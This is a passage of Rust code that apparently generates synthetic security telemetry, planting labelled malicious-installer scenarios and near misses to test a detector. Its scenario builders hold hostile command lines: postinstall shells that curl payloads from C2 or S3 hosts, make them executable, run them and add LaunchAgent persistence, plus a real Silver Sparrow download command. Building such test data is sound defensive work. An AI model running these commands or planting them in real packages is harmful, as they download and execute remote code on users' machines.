        let agent_id = self.uuid(false);
        let user = USERS[idx % USERS.len()].to_string();
        let hostname = if linux {
            format!("build-runner-{:02}", self.r.random_range(1..40))
        } else {
            format!("{}-{}-{:03}", user, HOST_STEMS[self.r.random_range(0..HOST_STEMS.len())], idx)
        };
        let host_id = if linux { self.uuid(false) } else { self.uuid(true) };
        let (os_version, os_full, kernel) =
            if linux { ("24.04", "Ubuntu 24.04.3 LTS", "6.8.0-87-generic") } else { MAC_OS[self.r.random_range(0..MAC_OS.len())] };
        let arch = if linux || self.r.random_bool(0.2) { "x86_64" } else { "arm64" };
        let ip4 = format!("10.{}.{}.{}", self.r.random_range(10..60), self.r.random_range(0..255), self.r.random_range(2..250));
        let ll = format!(
            "fe80::{:x}:{:x}:{:x}:{:x}",
            self.r.random_range(0..0xffffu32),
            self.r.random_range(0..0xffffu32),
            self.r.random_range(0..0xffffu32),
            self.r.random_range(0..0xffffu32)
        );
        let mac = |r: &mut ChaCha8Rng| {
            let v: u64 = r.random();
            let b = v.to_be_bytes();
            format!("{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}", b[2] & 0xfe | 0x02, b[3], b[4], b[5], b[6], b[7])
        };
        let macs = vec![mac(&mut self.r), mac(&mut self.r)];
        let mut id_prefix = [0u8; 8];
        for c in id_prefix.iter_mut() {
            *c = B64[self.r.random_range(0..64)];
        }
        let boot = self.now - self.r.random_range(3_600..14 * 86_400i64) * 1_000_000;
        let agent_version = AGENT_VERSIONS[self.r.random_range(0..AGENT_VERSIONS.len())];
        let kernel_task = Rc::new(Proc {
            pid: 0,
            eid: Rc::from(base64(format!("{}-0-{}", agent_id, boot / 1_000_000).as_bytes())),
            start_us: boot,
            name: Rc::from(if linux { "swapper" } else { "kernel_task" }),
            exe: Rc::from(""),
            args: Rc::from(Vec::new()),
            cmd: Rc::from(""),
            root: true,
            parent: None,
            sig: Sig::Apple,
            sid: Rc::from(""),
            digest: Rc::from(""),
            cwd: "/",
        });
        let mut host = Host {
            agent_id,
            agent_version,
            host_id,
            hostname,
            ips: vec![ip4, ll, "127.0.0.1".to_string(), "::1".to_string()],
            macs,
            arch,
            linux,
            os_version,
            os_full,
            kernel,
            user,
            seq: self.r.random_range(1_000..400_000),
            next_pid: self.r.random_range(900..3_000),
            id_prefix,
            launchd: kernel_task.clone(),
            zsh: kernel_task.clone(),
            pool: Vec::new(),
            code_helper: kernel_task.clone(),
        };
        let (lname, lexe) = if linux { ("systemd", "/usr/lib/systemd/systemd") } else { ("launchd", "/sbin/launchd") };
        let launchd = mk_proc(&host, 1, Some(&kernel_task), &img(lname, lexe, &[lexe], Sig::Apple), true, boot + 1_000_000);
        host.launchd = launchd.clone();
        let mut pid = 80u32;
        let mut t = boot + 2_000_000;
        for (name, exe) in DAEMONS {
            pid += self.r.random_range(3..40);
            t += self.r.random_range(10_000..900_000);
            host.pool.push(mk_proc(&host, pid, Some(&launchd), &img(name, exe, &[exe], Sig::Apple), true, t));
        }
        t += self.r.random_range(20_000_000..300_000_000);
        for (name, exe, sig) in APPS {
            pid += self.r.random_range(5..120);
            t += self.r.random_range(100_000..60_000_000);
            host.pool.push(mk_proc(&host, pid, Some(&launchd), &img(name, exe, &[exe], *sig), false, t));
        }
        pid += self.r.random_range(5..100);
        let term_exe = "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal";
        let term = mk_proc(&host, pid, Some(&launchd), &img("Terminal", term_exe, &[term_exe], Sig::Apple), false, t);
        let login_args = ["login", "-pfl", host.user.as_str(), "/bin/bash", "-c", "exec -la zsh /bin/zsh"];
        let login = mk_proc(&host, pid + 3, Some(&term), &img("login", "/usr/bin/login", &login_args, Sig::Apple), true, t + 40_000);
        host.zsh = mk_proc(&host, pid + 4, Some(&login), &img("zsh", "/bin/zsh", &["-zsh"], Sig::Apple), false, t + 60_000);
        host.pool.push(term);
        let (cn, ce, cs) = CODE_HELPER;
        host.code_helper = mk_proc(&host, pid + 40, Some(&launchd), &img(cn, ce, &[ce, "--type=utility"], cs), false, t + 9_000_000);
        host.pool.push(host.code_helper.clone());
        host.next_pid = host.next_pid.max(pid + 200);
        host
    }

    // ----- scheduling -----------------------------------------------------------------------

    fn run<W: Write>(&mut self, mut out: W) -> std::io::Result<()> {
        let per_event_us = (1_000_000.0 / (self.nbg as f64 * 1.6)) as i64;
        while self.scheduled < self.target {
            let before = self.scheduled;
            if self.scheduled >= self.next_mark {
                let label = self.deck[self.deck_pos];
                if self.plant(label) {
                    self.deck_pos = (self.deck_pos + 1) % self.deck.len();
                }
                self.next_mark = self.scheduled + self.r.random_range(70..140);
            }
            if self.scheduled == before {
                self.background();
            }
            let n = (self.scheduled - before).max(1) as i64;
            // Mostly steady, sometimes a burst (installs, builds) with much shorter gaps.
            let gap = if self.r.random_bool(0.1) { per_event_us / 20 } else { per_event_us };
            self.now += self.r.random_range(0..=2 * gap * n).max(1);
            while self.heap.peek().is_some_and(|e| e.t < self.now) {
                if let Some(ev) = self.heap.pop() {
                    self.release(ev, &mut out)?;
                }
            }
        }
        while let Some(ev) = self.heap.pop() {
            self.release(ev, &mut out)?;
        }
        while let Some(Held(_, ev)) = self.delayed.pop() {
            self.write_ev(&ev, &mut out)?;
        }
        out.write_all(&self.js.b)?;
        self.js.b.clear();
        out.flush()?;
        self.stats.scenarios = LABELS.iter().copied().zip(self.counts.iter().copied()).collect();
        Ok(())
    }

    /// Takes the next event in time order: numbers it, then writes it or holds it back briefly.
    fn release<W: Write>(&mut self, mut ev: Ev, out: &mut W) -> std::io::Result<()> {
        let h = &mut self.hosts[ev.host as usize];
        h.seq += 1;
        ev.seq = h.seq;
        while self.delayed.peek().is_some_and(|d| d.0 <= ev.t) {
            if let Some(Held(_, d)) = self.delayed.pop() {
                self.write_ev(&d, out)?;
            }
        }
        if self.r.random_bool(0.03) {
            let hold = self.r.random_range(1_000..2_000_000);
            self.delayed.push(Held(ev.t + hold, ev));
            Ok(())
        } else {
            self.write_ev(&ev, out)
        }
    }

    /// Queues a finished group of events if it fits in the line budget.
    fn commit(&mut self, evs: Vec<Ev>) -> bool {
        if self.scheduled + evs.len() as u64 > self.target {
            return false;
        }
        self.scheduled += evs.len() as u64;
        for mut e in evs {
            e.ord = self.ord;
            self.ord += 1;
            self.heap.push(e);
        }
        true
    }

    fn new_pid(&mut self, h: usize) -> u32 {
        let step = self.r.random_range(1..12);
        let host = &mut self.hosts[h];
        host.next_pid += step;
        if host.next_pid > 99_000 {
            host.next_pid = 1_000 + step;
        }
        host.next_pid
    }

    fn mk(&mut self, h: usize, parent: &Rc<Proc>, im: &Img, root: bool, t: i64) -> Rc<Proc> {
        let pid = self.new_pid(h);
        let host = &self.hosts[h];
        mk_proc(host, pid, Some(parent), im, root, t)
    }

    fn ev(sc: &mut Sc, h: usize, t: i64, kind: Kind, p: &Rc<Proc>, q: u32) {
        sc.evs.push(Ev { t, ord: 0, host: h as u32, seq: 0, q, kind, p: p.clone() });
    }

    /// Advances the scenario cursor by `lo..=hi` ms (at least 1) and returns a µs timestamp.
    fn tick(&mut self, sc: &mut Sc, lo: i64, hi: i64) -> i64 {
        sc.c += self.r.random_range(lo.max(1)..=hi.max(lo.max(1)));
        sc.c * 1000 + self.r.random_range(0..1000)
    }

    // ----- background ------------------------------------------------------------------------

    fn background(&mut self) {
        let h = self.r.random_range(0..self.nbg);
        let remaining = self.target - self.scheduled;
        let x: f64 = self.r.random();
        let mut sc = Sc { h, c: self.now / 1000 + 1, evs: Vec::new() };
        if x < 0.45 {
            self.bg_file(&mut sc);
        } else if x < 0.59 {
            self.bg_process(&mut sc);
        } else if x < 0.75 {
            self.bg_net(&mut sc);
        } else if x < 0.91 {
            self.bg_lib(&mut sc);
        } else if x < 0.948 {
            self.bg_sec(&mut sc);
        } else {
            self.bg_file(&mut sc);
        }
        let evs = std::mem::take(&mut sc.evs);
        if evs.len() as u64 > remaining || !self.commit(evs) {
            let mut sc = Sc { h, c: self.now / 1000 + 1, evs: Vec::new() };
            self.bg_file_one(&mut sc);
            let evs = std::mem::take(&mut sc.evs);
            self.commit(evs);
        }
    }

    fn pool_proc(&mut self, h: usize) -> Rc<Proc> {
        let host = &self.hosts[h];
        let i = self.r.random_range(0..host.pool.len());
        host.pool[i].clone()
    }

    fn file_path(&mut self, h: usize, p: &Proc) -> String {
        let user = self.hosts[h].user.clone();
        let n: u32 = self.r.random();
        match &*p.name {
            "mds" | "mds_stores" => format!("/System/Volumes/Data/.Spotlight-V100/Store-V2/{}/journalAttr.{}", self.uuid(true), n % 900),
            "Google Chrome" | "Google Chrome Helper" => match n % 4 {
                0 => format!("/Users/{user}/Library/Application Support/Google/Chrome/Default/History-journal"),
                1 => format!("/Users/{user}/Library/Caches/Google/Chrome/Default/Cache/Cache_Data/{:016x}_0", mix(n as u64)),
                2 => format!("/Users/{user}/Library/Application Support/Google/Chrome/Default/Cookies-journal"),
                _ => format!("/Users/{user}/Downloads/report-{}.pdf.crdownload", n % 10_000),
            },
            "Slack" => format!("/Users/{user}/Library/Application Support/Slack/IndexedDB/https_app.slack.com_0.indexeddb.leveldb/{:06}.log", n % 999_999),
            "cfprefsd" => format!(
                "/Users/{user}/Library/Preferences/{}.plist",
                ["com.apple.finder", "com.apple.dock", "com.google.Chrome", "com.apple.Terminal", ".GlobalPreferences"][n as usize % 5]
            ),
            "logd" => format!("/private/var/db/diagnostics/Persist/{:016x}.tracev3", n as u64 * 7),
            "Code Helper" => format!(
                "/Users/{user}/src/payments-api/{}",
                ["src/main.rs", "src/handlers/refund.rs", "Cargo.lock", "target/debug/.fingerprint/payments-api-3f2a/output", ".git/index.lock"]
                    [n as usize % 5]
            ),
            "Finder" => format!("/Users/{user}/Desktop/Screenshot 2026-11-0{} at {}.{:02}.{:02}.png", n % 2 + 1, 9 + n % 8, n % 60, n % 59),
            _ => format!(
                "/private/var/folders/{}/{}/T/TemporaryItems/{}-{}.tmp",
                ["zz", "x7", "k2", "9q"][n as usize % 4],
                "zyxvpxvq6csfxvn_n0000000000000",
                p.name.replace(' ', ""),
                hex_digest(n as u64, 8)
            ),
        }
    }

    fn bg_file_one(&mut self, sc: &mut Sc) {
        let p = self.pool_proc(sc.h);
        let t = self.tick(sc, 0, 3);
        let path = self.file_path(sc.h, &p);
        let a = self.r.random_range(0..FILE_ACTIONS.len()) as u8;
        Self::ev(sc, sc.h, t, Kind::File(a, path.into()), &p, 0);
    }

    fn bg_file(&mut self, sc: &mut Sc) {
        let p = self.pool_proc(sc.h);
        let n = if self.r.random_bool(0.25) { self.r.random_range(2..5) } else { 1 };
        for _ in 0..n {
            let t = self.tick(sc, 0, 40);
            let path = self.file_path(sc.h, &p);
            let a = self.r.random_range(0..FILE_ACTIONS.len()) as u8;
            Self::ev(sc, sc.h, t, Kind::File(a, path.into()), &p, 0);
        }
    }

    fn ip_for(&mut self, domain: &str) -> String {
        let v = mix(fnv(domain));
        let first = [17u64, 140, 151, 104, 142, 34, 52, 185][(v % 8) as usize];
        format!("{}.{}.{}.{}", first, (v >> 8) & 0xff, (v >> 16) & 0xff, ((v >> 24) & 0xfd) + 1)
    }

    /// DNS lookup, connection and disconnect of `p` to `domain`.
    fn connection(&mut self, sc: &mut Sc, p: &Rc<Proc>, domain: &str, port: u16, dns: bool, q: u32) {
        let ip = self.ip_for(domain);
        let h = sc.h;
        if dns {
            let t = self.tick(sc, 1, 30);
            let mut ips = vec![ip.clone()];
            if self.r.random_bool(0.4) {
                ips.push(self.ip_for(&format!("{domain}.2")));
            }
            Self::ev(sc, h, t, Kind::Dns(Box::new((domain.to_string(), ips))), p, 0);
        }
        let t = self.tick(sc, 1, 20);
        let src_port = self.r.random_range(49_152..65_535);
        Self::ev(
            sc,
            h,
            t,
            Kind::Net(Box::new(Net { start: true, dst_ip: ip.clone(), dst_port: port, domain: Some(domain.to_string()), src_port, bytes: (0, 0) })),
            p,
            q,
        );
        let t = self.tick(sc, 20, 4_000);
        let bytes = (self.r.random_range(300..40_000), self.r.random_range(500..2_000_000));
        Self::ev(sc, h, t, Kind::Net(Box::new(Net { start: false, dst_ip: ip, dst_port: port, domain: Some(domain.to_string()), src_port, bytes })), p, 0);
    }

    fn bg_net(&mut self, sc: &mut Sc) {
        let p = self.pool_proc(sc.h);
        let targets = net_targets(&p.name);
        let (d, port) = targets[self.r.random_range(0..targets.len())];
        let dns = self.r.random_bool(0.5);
        self.connection(sc, &p, d, port, dns, 0);
    }

    fn bg_lib(&mut self, sc: &mut Sc) {
        let p = self.pool_proc(sc.h);
        let t = self.tick(sc, 0, 5);
        let l = self.r.random_range(0..LIBS.len()) as u8;
        Self::ev(sc, sc.h, t, Kind::Lib(l), &p, 0);
    }

    fn bg_sec(&mut self, sc: &mut Sc) {
        let p = self.pool_proc(sc.h);
        let t = self.tick(sc, 0, 5);
        let s = self.r.random_range(0..SEC.len()) as u8;
        Self::ev(sc, sc.h, t, Kind::Sec(s), &p, 0);
    }

    fn bg_process(&mut self, sc: &mut Sc) {
        let h = sc.h;
        let (sp, root, name, exe, args, net) = BG_CHILDREN[self.r.random_range(0..BG_CHILDREN.len())];
        let parent = match sp {
            0 => self.hosts[h].zsh.clone(),
            1 => self.hosts[h].launchd.clone(),
            _ => self.hosts[h].code_helper.clone(),
        };
        let user = self.hosts[h].user.clone();
        let exe = exe.replace("USER", &user);
        let args: Vec<&str> = args.split(' ').collect();
        let im = img(name, &exe, &args, Sig::Apple);
        let child = self.spawn(sc, &parent, &im, root, 0);
        if let Some((d, port)) = net {
            let dns = self.r.random_bool(0.7);
            self.connection(sc, &child, d, port, dns, 0);
        } else if self.r.random_bool(0.5) {
            let t = self.tick(sc, 1, 300);
            let path = self.file_path(h, &child);
            Self::ev(sc, h, t, Kind::File(1, path.into()), &child, 0);
        }
        let t = self.tick(sc, 2, 1500);
        Self::ev(sc, h, t, Kind::End(0), &child, 0);
    }

    // ----- scenario building blocks ----------------------------------------------------------

    /// fork (showing the parent's image) then exec of a new child; `q` applies to the exec.
    fn spawn(&mut self, sc: &mut Sc, parent: &Rc<Proc>, im: &Img, root: bool, q: u32) -> Rc<Proc> {
        let h = sc.h;
        let tf = self.tick(sc, 1, 4);
        let child = self.mk(h, parent, im, root, tf);
        Self::ev(sc, h, tf, Kind::Fork, &child, 0);
        let te = self.tick(sc, 1, 3);
        Self::ev(sc, h, te, Kind::Exec, &child, q);
        child
    }

    /// `exec` in place: same pid and entity id, new image.
    fn reimage(&mut self, sc: &mut Sc, p: &Rc<Proc>, im: &Img, parent: Option<&Rc<Proc>>, q: u32) -> Rc<Proc> {
        let mut n = (**p).clone();
        n.name = Rc::from(im.name.as_str());
        n.exe = Rc::from(im.exe.as_str());
        n.cmd = Rc::from(im.args.join(" "));
        n.args = Rc::from(im.args.clone());
        n.sig = im.sig;
        n.refresh_image();
        if let Some(par) = parent {
            n.parent = Some(par.clone());
        }
        let n = Rc::new(n);
        let t = self.tick(sc, 1, 3);
        Self::ev(sc, sc.h, t, Kind::Exec, &n, q);
        n
    }

    fn end(&mut self, sc: &mut Sc, p: &Rc<Proc>, lo: i64, hi: i64, code: i32) {
        let t = self.tick(sc, lo, hi);
        Self::ev(sc, sc.h, t, Kind::End(code), p, 0);
    }

    fn pkg(&mut self) -> (&'static str, &'static str) {
        PKGS[self.r.random_range(0..PKGS.len())]
    }

    fn rand_tag(&mut self, n: usize) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        (0..n).map(|_| A[self.r.random_range(0..A.len())] as char).collect()
    }

    /// Path of a pre/postinstall script inside the PackageKit sandbox.
    fn script_path(&mut self, pkgid: &str, phase: &str) -> String {
        if self.r.random_bool(0.2) {
            let u = self.uuid(true);
            let tag = self.rand_tag(6);
            format!("/Library/InstallerSandboxes/.PKInstallSandboxManager/{u}.activeSandbox/Scripts/{pkgid}.{tag}/{phase}")
        } else {
            let a = self.rand_tag(6);
            let b = self.rand_tag(6);
            format!("/tmp/PKInstallSandbox.{a}/Scripts/{pkgid}.{b}/{phase}")
        }
    }

    /// Starts the installer-side parent process of a script.
    fn par(&mut self, sc: &mut Sc, which: Par) -> Rc<Proc> {
        let h = sc.h;
        let launchd = self.hosts[h].launchd.clone();
        let user = self.hosts[h].user.clone();
        let (pkg, _) = self.pkg();
        match which {
            Par::Gui(name) => {
                let exe = format!("/System/Library/CoreServices/Installer.app/Contents/MacOS/{name}");
                let pkgpath = format!("/Users/{user}/Downloads/{pkg}");
                let im = img(name, &exe, &[&exe, &pkgpath], Sig::Apple);
                self.spawn(sc, &launchd, &im, false, 0)
            }
            Par::Cli(name) => {
                let zsh = self.hosts[h].zsh.clone();
                let pkgpath = format!("/Users/{user}/Downloads/{pkg}");
                let sudo = self.spawn(sc, &zsh, &img("sudo", "/usr/bin/sudo", &["sudo", name, "-pkg", &pkgpath, "-target", "/"], Sig::Apple), true, 0);
                let exe = format!("/usr/sbin/{name}");
                self.spawn(sc, &sudo, &img(name, &exe, &[name, "-pkg", &pkgpath, "-target", "/"], Sig::Apple), true, 0)
            }
            Par::Pss => {
                let exe = "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/XPCServices/package_script_service.xpc/Contents/MacOS/package_script_service";
                self.spawn(sc, &launchd, &img("package_script_service", exe, &[exe], Sig::Apple), true, 0)
            }
            Par::SystemInstalld => {
                let exe = "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/system_installd";
                self.spawn(sc, &launchd, &img("system_installd", exe, &[exe], Sig::Apple), true, 0)
            }
            Par::Installd => {
                let exe = "/System/Library/PrivateFrameworks/PackageKit.framework/Resources/installd";
                self.spawn(sc, &launchd, &img("installd", exe, &[exe], Sig::Apple), true, 0)
            }
        }
    }

    /// Script interpreter image run by a package parent: argv = [interp, script, $1..$4].
    fn script_img(&mut self, name: &str, exe: &str, argv0: &str, phase: &str) -> Img {
        let (pkg, pkgid) = self.pkg();
        let user = self.cur_user.clone();
        let script = self.script_path(pkgid, phase);
        let pkgpath = format!("/Users/{user}/Downloads/{pkg}");
        img(name, exe, &[argv0, &script, &pkgpath, "/", "/", "/"], Sig::Apple)
    }

    fn shell_img(&mut self) -> Img {
        match self.r.random_range(0..3) {
            0 => self.script_img("bash", "/bin/bash", "/bin/bash", "postinstall"),
            1 => self.script_img("sh", "/bin/sh", "/bin/sh", "postinstall"),
            _ => self.script_img("zsh", "/bin/zsh", "/bin/zsh", "postinstall"),
        }
    }

    fn c2(&mut self) -> String {
        C2[self.r.random_range(0..C2.len())].to_string()
    }

    fn curl_img(&mut self, name: &str, url: &str) -> Img {
        let exe = format!("/usr/bin/{name}");
        match self.r.random_range(0..3) {
            0 => img(name, &exe, &[name, "-fsSL", "-o", "/tmp/.pkgupd", url], Sig::Apple),
            1 => img(name, &exe, &[name, "-k", url], Sig::Apple),
            _ => img(name, &exe, &[name, "-s", "-L", url, "-o", "/private/tmp/update.zip"], Sig::Apple),
        }
    }

    /// Downloader child of `shell`: fork, exec, DNS, connection (at `when`), disconnect, end.
    fn download(&mut self, sc: &mut Sc, shell: &Rc<Proc>, dl: Dl) -> Rc<Proc> {
        let h = sc.h;
        if let When::At(t) = dl.when {
            sc.c = sc.c.max(t / 1000 - 40);
        } else if let When::After(lo, hi) = dl.when {
            let g = self.r.random_range(lo..=hi.max(lo));
            sc.c += (g - 30).max(0);
        }
        let child = self.spawn(sc, shell, &dl.img, shell.root, 0);
        if self.r.random_bool(0.6) {
            let t = self.tick(sc, 1, 5);
            let ip = self.ip_for(&dl.domain);
            Self::ev(sc, h, t, Kind::Dns(Box::new((dl.domain.clone(), vec![ip]))), &child, 0);
        }
        let t = match dl.when {
            When::At(t) => {
                sc.c = t.div_euclid(1000);
                t
            }
            When::After(..) => self.tick(sc, 1, 10),
        };
        let ip = self.ip_for(&dl.domain);
        let src_port = self.r.random_range(49_152..65_535);
        if dl.connect {
            let net = Net { start: true, dst_ip: ip.clone(), dst_port: dl.port, domain: Some(dl.domain.clone()), src_port, bytes: (0, 0) };
            Self::ev(sc, h, t, Kind::Net(Box::new(net)), &child, dl.nq);
        }
        let t2 = self.tick(sc, 30, 1200);
        let bytes = (self.r.random_range(300..2_000), self.r.random_range(2_000..900_000));
        let net = Net { start: false, dst_ip: ip, dst_port: dl.port, domain: Some(dl.domain), src_port, bytes };
        Self::ev(sc, h, t2, Kind::Net(Box::new(net)), &child, if dl.connect { 0 } else { dl.nq });
        self.end(sc, &child, 1, 30, 0);
        child
    }

    fn dl(&mut self, im: Img, domain: String) -> Dl {
        Dl { img: im, domain, port: 443, when: When::After(40, 3_000), nq: 0, connect: true }
    }

    /// The common shape: parent → script shell (stage 1) → downloader child (stage 2).
    /// Returns the shell.
    fn chain(&mut self, sc: &mut Sc, par: Par, shell: Img, shell_q: u32, dl: Dl) -> Rc<Proc> {
        let parent = self.par(sc, par);
        let root = parent.root;
        let sh = self.spawn(sc, &parent, &shell, root, shell_q);
        self.download(sc, &sh, dl);
        self.end(sc, &sh, 5, 400, 0);
        self.end(sc, &parent, 5, 800, 0);
        sh
    }

    /// Shell exec at an exact µs time after a parent start.
    fn shell_at(&mut self, sc: &mut Sc, parent: &Rc<Proc>, shell: &Img, t: i64, q: u32) -> Rc<Proc> {
        sc.c = sc.c.max(t / 1000 - 10);
        let tf = self.tick(sc, 1, 4);
        let child = self.mk(sc.h, parent, shell, parent.root, tf);
        Self::ev(sc, sc.h, tf, Kind::Fork, &child, 0);
        sc.c = t.div_euclid(1000);
        Self::ev(sc, sc.h, t, Kind::Exec, &child, q);
        child
    }

    /// Plants scenario `label`; false when it does not fit in the remaining budget.
    fn plant(&mut self, label: usize) -> bool {
        let h = self.r.random_range(0..self.nbg);
        let mut sc = Sc { h, c: self.now / 1000 + 1, evs: Vec::new() };
        self.cur_user = self.hosts[h].user.clone();
        let (tp, nm) = self.build(label, &mut sc);
        let evs = std::mem::take(&mut sc.evs);
        if !self.commit(evs) {
            return false;
        }
        self.counts[label] += 1;
        self.stats.planted_true_positives += tp;
        self.stats.planted_near_misses += nm;
        true
    }

    /// Builds one scenario; returns (expected alerts, near misses).
    fn build(&mut self, label: usize, sc: &mut Sc) -> (u64, u64) {
        match LABELS[label] {
            "TP1_mystikal_preinstall" => {
                let phase = if self.r.random_bool(0.5) { "preinstall" } else { "installcheck" };
                let shell = if phase == "preinstall" {
                    self.script_img("bash", "/bin/bash", "/bin/bash", phase)
                } else {
                    self.script_img("sh", "/bin/sh", "/bin/sh", phase)
                };
                let par = self.par(sc, Par::Pss);
                let sh = self.spawn(sc, &par, &shell, true, 0);
                let c2 = self.c2();
                let url = format!("http://{c2}/{}", self.rand_tag(10));
                let curl = img("curl", "/usr/bin/curl", &["curl", "-k", &url], Sig::Apple);
                let osa = img("osascript", "/usr/bin/osascript", &["osascript", "-l", "JavaScript"], Sig::Apple);
                let o = self.spawn(sc, &sh, &osa, true, 0);
                let mut d = self.dl(curl, c2);
                d.port = 80;
                d.when = When::After(5, 400);
                self.download(sc, &sh, d);
                self.end(sc, &o, 50, 2_000, 0);
                self.end(sc, &sh, 5, 200, 0);
                self.end(sc, &par, 5, 500, 0);
                (1, 0)
            }
            "TP2_postinstall_s3_dropper" => {
                let shell = self.script_img("sh", "/bin/sh", "/bin/sh", "postinstall");
                let par = self.par(sc, Par::Pss);
                let sh = self.spawn(sc, &par, &shell, true, 0);
                let bucket = format!("{}-{}", ["cdn", "dist", "update", "assets"][self.r.random_range(0..4)], self.rand_tag(8).to_lowercase());
                let domain = format!("{bucket}.s3.amazonaws.com");
                let url = format!("https://{domain}/{}/payload.bin", self.rand_tag(6).to_lowercase());
                let curl = img("curl", "/usr/bin/curl", &["curl", "-fsSL", "-o", "/tmp/.x", &url], Sig::Apple);
                let d = self.dl(curl, domain);
                self.download(sc, &sh, d);
                let chmod = self.spawn(sc, &sh, &img("chmod", "/bin/chmod", &["chmod", "+x", "/tmp/.x"], Sig::Apple), true, 0);
                self.end(sc, &chmod, 1, 10, 0);
                let x = self.spawn(sc, &sh, &img(".x", "/tmp/.x", &["/tmp/.x", "--daemon"], Sig::Unsigned), true, 0);
                let user = self.hosts[sc.h].user.clone();
                let t = self.tick(sc, 5, 300);
                let plist = format!("/Users/{user}/Library/LaunchAgents/com.{}.agent.plist", self.rand_tag(6).to_lowercase());
                Self::ev(sc, sc.h, t, Kind::File(0, plist.into()), &x, 0);
                self.end(sc, &sh, 5, 200, 0);
                self.end(sc, &par, 5, 500, 0);
                (1, 0)
            }
            "TP3_silver_sparrow_compound" => {
                let par = self.par(sc, Par::Gui("Installer"));
                let domain = "specialattributes.s3.amazonaws.com".to_string();
                let url = format!("https://{domain}/applications/updater/ver.json");
                let cmd = format!("cd /tmp; /usr/bin/curl -s {url} > /tmp/version.json; plutil -convert xml1 -r /tmp/version.json -o /tmp/version.plist");
                let shell = img("bash", "/bin/bash", &["/bin/bash", "-c", &cmd], Sig::Apple);
                let sh = self.spawn(sc, &par, &shell, false, 0);
                let curl = img("curl", "/usr/bin/curl", &["/usr/bin/curl", "-s", &url], Sig::Apple);
                let d = self.dl(curl, domain);
                self.download(sc, &sh, d);
                let pl = self.spawn(
                    sc,
                    &sh,
                    &img("plutil", "/usr/bin/plutil", &["plutil", "-convert", "xml1", "-r", "/tmp/version.json", "-o", "/tmp/version.plist"], Sig::Apple),
                    false,
                    0,
                );
                self.end(sc, &pl, 1, 20, 0);
                self.end(sc, &sh, 1, 50, 0);
                self.end(sc, &par, 500, 3_000, 0);
                (1, 0)
            }
            "TP4_tclsh_postinstall" => {
                let exe = "/System/Library/Frameworks/Tcl.framework/Versions/8.6/tclsh8.6";
                let shell = self.script_img("tclsh8.6", exe, "/usr/bin/tclsh", "postinstall");
                let c2 = self.c2();
                let url = format!("https://{c2}/tcl/{}", self.rand_tag(8));
                let curl = self.curl_img("curl", &url);
                let d = self.dl(curl, c2);
                self.chain(sc, Par::Pss, shell, 0, d);
                (1, 0)
            }
            "TP5_jamf_quickadd" => {
                let org = ["acme", "globex", "initech", "umbrella", "hooli"][self.r.random_range(0..5)];
                let domain = format!("{org}.jamfcloud.com");
                let shell = self.script_img("bash", "/bin/bash", "/bin/bash", "postinstall");
                let url = format!("https://{domain}/bin/jamf.gz");
                let curl = img("curl", "/usr/bin/curl", &["/usr/bin/curl", "-ks", "-o", "/tmp/jamf.gz", &url], Sig::Apple);
                let d = self.dl(curl, domain);
                self.chain(sc, Par::Pss, shell, 0, d);
                (1, 0)
            }
            "TP6_case_Installer_Python" => {
                let exe = "/Library/Frameworks/Python.framework/Versions/2.7/Resources/Python.app/Contents/MacOS/Python";
                let c2 = self.c2();
                let url = format!("https://{c2}/py/{}", self.rand_tag(8));
                let code = format!("import subprocess; subprocess.call(['curl','-s','-o','/tmp/.p','{url}'])");
                let shell = img("Python", exe, &["python", "-c", &code], Sig::Apple);
                let curl = img("curl", "/usr/bin/curl", &["curl", "-s", "-o", "/tmp/.p", &url], Sig::Apple);
                let d = self.dl(curl, c2);
                self.chain(sc, Par::Gui("Installer"), shell, 0, d);
                (1, 0)
            }
            "N1_postinstall_no_network" => {
                let par = self.par(sc, Par::Pss);
                let shell = self.shell_img();
                let sh = self.spawn(sc, &par, &shell, true, 0);
                let user = self.hosts[sc.h].user.clone();
                for im in [
                    img("cp", "/bin/cp", &["cp", "-R", "/tmp/payload/Agent.app", "/Applications/"], Sig::Apple),
                    img(
                        "defaults",
                        "/usr/bin/defaults",
                        &["defaults", "write", "/Library/Preferences/com.vendor.agent", "Enabled", "-bool", "true"],
                        Sig::Apple,
                    ),
                    img("launchctl", "/bin/launchctl", &["launchctl", "load", "/Library/LaunchDaemons/com.vendor.agent.plist"], Sig::Apple),
                ] {
                    let c = self.spawn(sc, &sh, &im, true, 0);
                    let t = self.tick(sc, 1, 40);
                    let path = format!("/Users/{user}/Library/Application Support/Vendor/{}.log", im.name);
                    Self::ev(sc, sc.h, t, Kind::File(1, path.into()), &c, 0);
                    self.end(sc, &c, 1, 80, 0);
                }
                self.end(sc, &sh, 1, 50, 0);
                self.end(sc, &par, 5, 300, 0);
                (0, 1)
            }
            "N2_unlisted_downloader" => {
                let shell = self.shell_img();
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let im = match self.r.random_range(0..5) {
                    0 => img("nscurl", "/usr/bin/nscurl", &["nscurl", "--download", &url], Sig::Apple),
                    1 => img("git", "/usr/bin/git", &["git", "clone", &url], Sig::Apple),
                    2 => img("perl", "/usr/bin/perl", &["perl", "-MLWP::Simple", "-e", "getstore('x','/tmp/x')"], Sig::Apple),
                    3 => img("python3", "/usr/bin/python3", &["python3", "-c", "import urllib.request"], Sig::Apple),
                    _ => img(
                        "VendorUpdater",
                        "/Library/Application Support/Vendor/VendorUpdater",
                        &["VendorUpdater", "--check"],
                        Sig::Dev("Developer ID Application: Vendor Inc. (A1B2C3D4E5)", "A1B2C3D4E5"),
                    ),
                };
                let d = self.dl(im, c2);
                self.chain(sc, Par::Pss, shell, 0, d);
                (0, 1)
            }
            "N3_grandchild_downloader" => {
                let par = self.par(sc, Par::Pss);
                let shell = self.script_img("bash", "/bin/bash", "/bin/bash", "postinstall");
                let sh = self.spawn(sc, &par, &shell, true, 0);
                let c2 = self.c2();
                let url = format!("https://{c2}/{}", self.rand_tag(8));
                let cmd = format!("curl -fsSL -o /tmp/.agent {url}; chmod +x /tmp/.agent");
                let sh2 = self.spawn(sc, &sh, &img("sh", "/bin/sh", &["sh", "-c", &cmd], Sig::Apple), true, 0);
                let curl = self.curl_img("curl", &url);
                let d = self.dl(curl, c2);
                self.download(sc, &sh2, d);
                self.end(sc, &sh2, 1, 50, 0);
                self.end(sc, &sh, 1, 50, 0);
